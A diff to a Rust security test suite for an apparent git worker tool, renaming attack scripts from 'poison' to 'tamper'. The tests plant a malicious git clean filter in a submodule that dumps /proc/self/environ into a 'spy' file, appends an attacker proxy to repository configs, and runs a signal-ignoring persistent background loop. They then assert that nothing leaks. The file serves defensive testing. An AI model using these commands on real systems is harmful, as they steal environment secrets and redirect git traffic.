@@ -54,26 +54,26 @@ fn a_filter_in_a_submodule_gets_no_token_and_cannot_change_the_push() {
     let evil = Forge::start(&scene.origin.path(""), None);
     // git runs the filters of a submodule when it looks for changes in it.
     let event = scene.attack(&format!(
-        "cat > \"$AT/poison\" <<'END'
+        "cat > \"$AT/tamper\" <<'END'
 #!/bin/sh
 at=${{0%/*}}
-touch \"$at/poisoned\"
+touch \"$at/tampered\"
 for made in \"$at\"/tmp/descartes-*; do
     printf '[http]\\n\\tproxy = {}\\n' >> \"$made/config\"
 done
 tr '\\0' '\\n' < /proc/self/environ >> \"$at/spy_output\"
 exec cat
 END
-         chmod +x \"$AT/poison\"
+         chmod +x \"$AT/tamper\"
          git init -q sub; cd sub; echo a > a; git add a; git -c user.name=a -c user.email=b commit -qm a
          cd ..; git add sub; git commit -qm linked; cd sub
          git config filter.spy.clean {}; echo '* filter=spy' > .gitattributes; echo b > a; cd ..",
         evil.base(),
-        quoted(quoted(scene.origin.path("poison")))
+        quoted(quoted(scene.origin.path("tamper")))
     ));
     assert_eq!(event["status"], "completed", "{event}");
     assert!(
-        scene.origin.path("poisoned").exists(),
+        scene.origin.path("tampered").exists(),
         "the filter did not run, so this shows nothing"
     );
     assert_eq!(evil.journal(), []);
@@ -208,10 +208,10 @@ fn a_process_that_stays_cannot_change_the_worker_s_repositories() {
     let scene = Scene::new();
     let evil = Forge::start(&scene.origin.path(""), None);
     scene.assert_harmless(&format!(
-        "cat > \"$AT/poison\" <<'END'
+        "cat > \"$AT/tamper\" <<'END'
          trap '' TERM HUP; while :; do for made in \"$TMPDIR\"/descartes-*/config; do
          [ -e \"$made\" ] && printf '[http]\\n\\tproxy = {}\\n' >> \"$made\"; done; done\nEND
-         setsid sh \"$AT/poison\" > /dev/null 2>&1 & (setsid setsid sh \"$AT/poison\" > /dev/null 2>&1 &) &",
+         setsid sh \"$AT/tamper\" > /dev/null 2>&1 & (setsid setsid sh \"$AT/tamper\" > /dev/null 2>&1 &) &",
         evil.base()
     ));
     assert_eq!(evil.journal(), []);
